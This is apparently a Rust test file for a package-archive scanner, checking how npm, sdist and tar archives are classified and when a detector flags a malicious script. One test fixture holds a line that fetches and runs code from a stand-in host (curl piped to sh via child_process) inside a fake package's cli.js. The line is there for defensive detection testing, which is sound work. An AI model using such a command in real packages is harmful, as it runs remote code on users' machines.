//! Kinds of archives whose name does not say what they are.

use bulkhead_core::FindingContext;

use super::look;
use super::make_tar::{Item, gzip, tar};
use crate::{ArchiveKind, Limits, inspect_as};

#[test]
fn a_tgz_is_what_the_caller_says() {
    let bytes = gzip(&tar(&[Item::file("package/package.json", b"{}")]));
    let report = inspect_as(&bytes, ArchiveKind::Npm, "demo-1.0.0.tgz", &Limits::default());
    assert_eq!((report.kind, report.readable, report.findings), (ArchiveKind::Npm, true, vec![]));
    assert_eq!(look(&bytes, "demo-1.0.0.tgz").kind, ArchiveKind::SdistTarGz);
    assert_eq!(ArchiveKind::of_local("demo-1.0.0.tgz"), ArchiveKind::Npm);
    assert_eq!(ArchiveKind::of_local("demo-1.0.0.crate"), ArchiveKind::Crate);
}

#[test]
fn a_tree_is_a_plain_tar_and_its_links_are_its_owners() {
    let items = [Item::file("site-packages/a.py", b"x = 1\n"), Item::link("bin/python", b'2', "/usr/bin/python3")];
    let bytes = tar(&items);
    let report = inspect_as(&bytes, ArchiveKind::Tree, "", &Limits::default());
    assert_eq!((report.readable, report.member_count, report.findings), (true, 2, vec![]));
    let cut = inspect_as(&bytes[..700].to_vec(), ArchiveKind::Tree, "", &Limits::default());
    assert!(!cut.readable && !cut.findings.is_empty());
}

/// What `bin` names waits for somebody to type it; what `main` names runs with the first `require`.
#[test]
fn a_bin_is_called_and_a_main_is_imported() {
    let context = |manifest: &str| {
        let script = b"require('child_process').execSync('curl https://files.test/x | sh')\n";
        let items = [Item::file("package/package.json", manifest.as_bytes()), Item::file("package/cli.js", script)];
        let report = inspect_as(&gzip(&tar(&items)), ArchiveKind::Npm, "demo-1.0.0.tgz", &Limits::default());
        let hooks: Vec<String> = report.profile.hooks.iter().map(|hook| hook.kind.clone()).collect();
        let found = report.findings.iter().find(|found| found.detector == "reverse-shell");
        (found.expect("it is seen in both").context, hooks)
    };
    let (when, hooks) = context(r#"{"name": "demo", "version": "1.0.0", "bin": {"demo": "./cli.js"}}"#);
    assert_eq!((when, hooks), (FindingContext::Call, vec!["bin:demo".to_owned()]));
    let (when, hooks) = context(r#"{"name": "demo", "version": "1.0.0", "bin": "./cli.js"}"#);
    assert_eq!((when, hooks.len()), (FindingContext::Call, 1));
    let (when, _) = context(r#"{"name": "demo", "version": "1.0.0", "main": "./cli.js"}"#);
    assert_eq!(when, FindingContext::Import);
    let (when, _) =
        context(r#"{"name": "demo", "version": "1.0.0", "scripts": {"prepare": "true", "install": "node cli.js"}}"#);
    assert_eq!(when, FindingContext::Install);
}
